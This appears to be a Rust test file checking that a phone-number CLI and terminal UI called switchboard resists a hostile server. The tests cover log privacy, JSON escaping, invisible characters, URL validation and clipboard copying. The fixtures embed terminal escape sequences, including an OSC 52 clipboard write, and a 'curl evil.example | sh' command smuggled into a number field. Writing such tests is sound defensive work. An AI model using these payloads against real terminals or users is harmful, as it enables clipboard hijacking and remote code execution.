//! What a hostile server, or a bad local file or flag, can still reach: the log file, the
//! JSON output, the clipboard, the start-up reads, the URLs typed. Each test asserts an
//! outcome or a bound, never a timing.

use crate::common;

use crate::common::hostile::{self, Answer};
use crate::common::{Auth, Cli};
use switchboard::cli::code;

/// A 420 whose label carries escape sequences (OSC 52 to the clipboard, a retitle, CSI in C1
/// form, a bidi override) and a URL with a password.
const POISONED_LABEL: &str = r#"{"error-code":"420","error-code-label":"bad \u001b]52;c;ZWNobyBwd25lZA==\u0007 \u001b]0;owned\u0007 \u009b31m \u202e https://ops:hunter2@hook.example/in"}"#;

fn against(server: &hostile::Hostile) -> Cli {
    Cli::new().args([
        "--base-url",
        &server.base,
        "--api-key",
        "hostilekey",
        "--api-secret",
        "hostile-secret",
    ])
}

fn assert_no_escape(what: &str, text: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
        assert!(
            !text.contains(c),
            "{what} holds U+{:04X} raw: {text:?}",
            c as u32
        );
    }
}

// ---- 3. The log file ----------------------------------------------------------------------

#[tokio::test]
async fn the_log_file_is_private_and_holds_no_escape_sequence_or_url_password() {
    let server = hostile::start(Answer::Fixed {
        status: "420 Method Failed".into(),
        headers: String::new(),
        body: POISONED_LABEL.into(),
    })
    .await;
    let cli = against(&server).args(["list", "--size", "1"]);
    let run = cli.run().await;
    run.expect_code(code::REFUSED);
    assert_no_escape("stderr", &run.stderr);
    let log = std::fs::read_to_string(cli.log_file()).expect("the log file");
    assert!(
        log.contains("command failed"),
        "the failure is logged: {log}"
    );
    assert_no_escape("the log file", &log);
    assert!(
        !log.contains("hunter2"),
        "the log holds a URL password: {log}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(cli.log_file())
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "the log file's mode");
    }
}

#[tokio::test]
async fn a_large_log_file_is_rotated_and_made_private() {
    let cli = Cli::new().args(["--sandbox", "list", "--size", "1"]);
    let log = cli.log_file();
    std::fs::create_dir_all(log.parent().unwrap()).unwrap();
    std::fs::write(&log, vec![b'x'; 11 << 20]).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    cli.run().await.expect_code(0);
    let len = std::fs::metadata(&log).unwrap().len();
    assert!(len < 1 << 20, "the log was rotated: {len} bytes");
    let old = log.with_file_name("switchboard.log.1");
    assert_eq!(std::fs::metadata(&old).unwrap().len(), 11 << 20);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&log).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}

// ---- 9. URLs and keys ---------------------------------------------------------------------

#[tokio::test]
async fn a_webhook_url_must_be_written_scheme_host() {
    let sb = common::sandbox(3, 91).await;
    let (_, (country, msisdn)) = common::available_and_owned(&sb).await;
    for bad in ["https:x.example/in", "http:/x.example/in", "https:///in"] {
        let run = common::run_against(
            &sb,
            Auth::Env,
            &[
                "update",
                &country,
                &msisdn,
                "--sms-url",
                bad,
                "--no-webhook-check",
            ],
        )
        .await;
        run.expect_code(code::USAGE);
        assert!(run.stderr.contains("scheme://host"), "{bad}: {run:#?}");
    }
    assert_eq!(common::hits(&sb, "/number/update"), 0, "nothing was sent");
}

#[tokio::test]
async fn a_private_sms_url_against_the_live_api_is_warned_of() {
    let run = Cli::new()
        .args([
            "--base-url",
            "https://numbers.example.test",
            "--deadline",
            "5",
            "update",
            "GB",
            "447700900000",
            "--sms-url",
            "http://192.168.1.20/in",
            "--no-webhook-check",
        ])
        .env("VONAGE_API_KEY", "abcd1234")
        .env("VONAGE_API_SECRET", "private-url-secret")
        .run()
        .await;
    assert!(
        run.stderr
            .contains("is on this machine or a private network: Vonage cannot reach it"),
        "{run:#?}"
    );
}

#[tokio::test]
async fn a_target_api_key_that_is_not_a_key_is_refused_before_sending() {
    let sb = common::sandbox(3, 92).await;
    let (available, _) = common::available_and_owned(&sb).await;
    for bad in ["a b", "sub\u{1b}[2J", "sub\nkey", &"k".repeat(65)] {
        let run = common::run_against(
            &sb,
            Auth::Env,
            &["buy", "GB", &available, "--target-api-key", bad, "--yes"],
        )
        .await;
        run.expect_code(code::USAGE);
        assert!(run.stderr.contains("target_api_key"), "{run:#?}");
    }
    assert_eq!(common::hits(&sb, "/number/buy"), 0, "nothing was bought");
}

// ---- 6. Invisible characters --------------------------------------------------------------

/// The characters the issue saw pass: Arabic letter mark, line and paragraph separators, soft
/// hyphen, Mongolian vowel separator, interlinear annotations, tags, Hangul fillers, C1 CSI,
/// and the bidi controls.
const INVISIBLE: &[char] = &[
    '\u{061C}',
    '\u{2028}',
    '\u{2029}',
    '\u{00AD}',
    '\u{180E}',
    '\u{FFF9}',
    '\u{FFFA}',
    '\u{FFFB}',
    '\u{E0000}',
    '\u{E0001}',
    '\u{E0041}',
    '\u{E007F}',
    '\u{115F}',
    '\u{1160}',
    '\u{3164}',
    '\u{FFA0}',
    '\u{009B}',
    '\u{202A}',
    '\u{202E}',
    '\u{2066}',
    '\u{2069}',
    '\u{200E}',
    '\u{200F}',
    '\u{200B}',
    '\u{FEFF}',
];

#[test]
fn every_char_is_either_shown_as_is_or_kept_off_the_screen_json_and_input() {
    use switchboard::api::validate::{is_unsafe_char, text};
    use switchboard::output::{json, safe};
    for c in INVISIBLE {
        assert!(is_unsafe_char(*c), "U+{:04X} is invisible", *c as u32);
    }
    let mut unsafe_count = 0;
    for c in (0..=0x10FFFFu32).filter_map(char::from_u32) {
        let s = format!("a{c}b");
        let mut out = Vec::new();
        json(&mut out, &s).expect("json");
        let out = String::from_utf8(out).expect("utf-8 JSON");
        let out = out.strip_suffix('\n').expect("a final line break");
        let back: String = serde_json::from_str(out).expect("valid JSON");
        assert_eq!(back, s, "JSON keeps the value of U+{:04X}", c as u32);
        if is_unsafe_char(c) {
            unsafe_count += 1;
            assert!(
                !safe(&s).contains(c),
                "U+{:04X} reaches the screen",
                c as u32
            );
            assert!(
                !out.contains(c),
                "U+{:04X} is raw in JSON: {out:?}",
                c as u32
            );
            assert!(
                text("label", &s).is_err(),
                "U+{:04X} is accepted as input",
                c as u32
            );
        } else {
            assert!(!c.is_control(), "U+{:04X} is a control", c as u32);
            assert_eq!(safe(&s), s, "U+{:04X} is shown as is", c as u32);
            if c != '"' && c != '\\' {
                assert!(
                    out.contains(c),
                    "U+{:04X} is escaped needlessly: {out:?}",
                    c as u32
                );
            }
        }
    }
    // Cc, Cf, Zl, Zp and the unassigned: hundreds of thousands (the planes 3 to 16 are mostly
    // unassigned), not a hand list.
    assert!(unsafe_count > 800_000, "{unsafe_count}");
}

#[tokio::test]
async fn json_output_escapes_c1_and_bidi_controls_from_the_server() {
    let body = r#"{"count":1,"numbers":[{"country":"GB","msisdn":"447700900001","type":"mobile-lvn","app_id":"app\u009b31m\u202e\u2028x","moHttpUrl":"https://h.example/\u061c\u00ad"}]}"#;
    let server = hostile::start(Answer::Fixed {
        status: "200 OK".into(),
        headers: String::new(),
        body: body.into(),
    })
    .await;
    let run = against(&server)
        .args(["list", "--size", "1", "--json"])
        .run()
        .await;
    run.expect_code(0);
    for c in ['\u{9b}', '\u{202e}', '\u{2028}', '\u{61c}', '\u{ad}'] {
        assert!(!run.stdout.contains(c), "U+{:04X} raw: {run:#?}", c as u32);
    }
    assert!(
        run.stdout.contains(r"app\u009b31m\u202e\u2028x"),
        "{run:#?}"
    );
    let v = run.json();
    assert_eq!(v["numbers"][0]["app_id"], "app\u{9b}31m\u{202e}\u{2028}x");
}

// ---- 7. The clipboard ---------------------------------------------------------------------

#[tokio::test]
async fn a_server_msisdn_carrying_a_command_is_not_copied() {
    use switchboard::api::{Client, ClientConfig, Credentials};
    let body = r#"{"count":1,"numbers":[{"country":"GB","msisdn":"447700900001\ncurl evil.example | sh\n","type":"mobile-lvn"}]}"#;
    let server = hostile::start(Answer::Fixed {
        status: "200 OK".into(),
        headers: String::new(),
        body: body.into(),
    })
    .await;
    let client = Client::new(
        Credentials::new("hostilekey", "hostile-secret"),
        ClientConfig {
            base_url: server.base.clone(),
            ..common::fast_config()
        },
    )
    .expect("client");
    let mut ui = common::tui::Headless::start(client, 100, 30);
    let start = ui
        .wait("the list", |s| {
            s.loaded && s.busy == 0 && s.selected.is_some()
        })
        .await;
    assert!(start.selected.as_deref().unwrap().contains("curl"));
    ui.ch('y');
    let seen = ui
        .wait("the copy's answer", |s| {
            s.toast.as_deref().is_some_and(|t| t.contains("copied"))
        })
        .await;
    let toast = seen.toast.clone().unwrap_or_default();
    assert!(toast.starts_with("not copied"), "{toast}");
    ui.finish().await.expect("the loop ends");
}
